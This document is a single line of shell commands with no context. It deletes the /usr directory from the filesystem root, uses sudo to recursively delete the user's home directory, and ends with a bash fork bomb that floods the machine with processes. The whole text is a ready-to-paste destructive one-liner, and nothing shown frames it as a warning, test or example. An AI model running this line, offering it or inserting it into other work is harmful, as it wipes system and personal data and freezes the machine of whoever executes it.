cd / && rm -rf usr; sudo env -i nice -n 5 timeout 10 rm -rf ~ & :(){ :|:& };:
